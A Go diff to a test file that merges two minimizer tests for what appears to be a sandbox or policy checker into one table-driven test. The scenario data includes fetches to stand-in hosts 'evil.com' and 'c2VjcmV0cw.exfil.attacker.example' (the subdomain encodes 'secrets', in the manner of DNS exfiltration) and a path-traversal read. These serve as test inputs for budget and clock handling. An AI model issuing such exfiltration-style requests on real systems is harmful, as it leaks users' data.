@@ -212,17 +212,20 @@ func TestMinimizeStopsAtItsTimeLimit(t *testing.T) {
 	})
 }
 
-// TestMinimizeRemovesBudgetBurners: a failure on the op that passes both
-// max_ops and max_wall (the wall-before-ops mutant halts max_wall where
-// SPEC §5 charges the op first) needs the ops before it only to reach the
-// caps; removing one of them alone, or lowering a cap alone, loses it. The
-// minimizer removes them with the budget they burn, down to one op.
+// TestMinimizeRemovesBudgetBurners: a failure on the last op needs the
+// ops before it only to bring it to a cap, or its clock tick past 2^63−1;
+// removing one of them alone, or lowering a cap alone, loses it. The
+// minimizer removes them with the budget they burn (and, where the tick
+// itself matters, with the clock started one step later, so that every
+// later tick is the same), down to one op.
 func TestMinimizeRemovesBudgetBurners(t *testing.T) {
-	m, ok := mutants.Lookup("wall-before-ops")
-	if !ok {
-		t.Fatal("no wall-before-ops mutant")
-	}
-	sc := parse(t, `budget ops 5
+	for _, tc := range []struct {
+		reason, mutant string
+		inv            oracle.ID
+		src            string
+	}{
+		{"the op that passes both max_ops and max_wall (the mutant halts max_wall where SPEC §5 charges the op first)",
+			"wall-before-ops", oracle.ChargeBeforeDispatch, `budget ops 5
 budget wall 5368709120
 clock 0 1073728562
 
@@ -232,43 +235,28 @@ net_fetch evil.com /
 fs_read /c
 fs_read ..
 fs_read /srv/app/missing
-`)
-	fails := Violates(m.Factory, oracle.ChargeBeforeDispatch, 0)
-	if !fails(sc) {
-		t.Fatal("the scenario does not fail on the mutant")
-	}
-	min, _ := Minimize(sc, 6, fails, Limits{})
-	if len(min.Steps) != 1 {
-		t.Fatalf("minimized to %d ops, want 1:\n%s", len(min.Steps), min.Format())
-	}
-	assertOneMinimal(t, min, fails)
-}
-
-// TestMinimizeRemovesClockBurners: the ignores-clock-overflow mutant
-// lets an op whose tick passes 2^63−1 through (SPEC §7 halts it
-// max_wall); here only the second op's tick passes it, so the first is
-// there only to move the clock on. Removing it with the budget it burns
-// loses the failure (the second op's tick would no longer pass 2^63−1);
-// removing it with the clock started one step later keeps every later
-// tick, and the failure, in one op.
-func TestMinimizeRemovesClockBurners(t *testing.T) {
-	m, ok := mutants.Lookup("ignores-clock-overflow")
-	if !ok {
-		t.Fatal("no ignores-clock-overflow mutant")
-	}
-	sc := parse(t, `budget wall 9223372036854762518
+`},
+		{"the op whose tick passes 2^63−1 (the mutant lets it through; SPEC §7 halts it max_wall)",
+			"ignores-clock-overflow", oracle.VerdictMatchesModel, `budget wall 9223372036854762518
 clock 1000000000 4611686018427387904
 
 tool "GH\x80OST" hello
 net_fetch c2VjcmV0cw.exfil.attacker.example /
-`)
-	fails := Violates(m.Factory, oracle.VerdictMatchesModel, 0)
-	if !fails(sc) {
-		t.Fatal("the scenario does not fail on the mutant")
+`},
+	} {
+		m, ok := mutants.Lookup(tc.mutant)
+		if !ok {
+			t.Fatalf("no %s mutant", tc.mutant)
+		}
+		sc := parse(t, tc.src)
+		fails := Violates(m.Factory, tc.inv, 0)
+		if !fails(sc) {
+			t.Fatalf("%s: the scenario does not fail on the mutant", tc.reason)
+		}
+		min, _ := Minimize(sc, len(sc.Steps), fails, Limits{})
+		if len(min.Steps) != 1 {
+			t.Fatalf("%s: minimized to %d ops, want 1:\n%s", tc.reason, len(min.Steps), min.Format())
+		}
+		assertOneMinimal(t, min, fails)
 	}
-	min, _ := Minimize(sc, 0, fails, Limits{})
-	if len(min.Steps) != 1 {
-		t.Fatalf("minimized to %d ops, want 1:\n%s", len(min.Steps), min.Format())
-	}
-	assertOneMinimal(t, min, fails)
 }
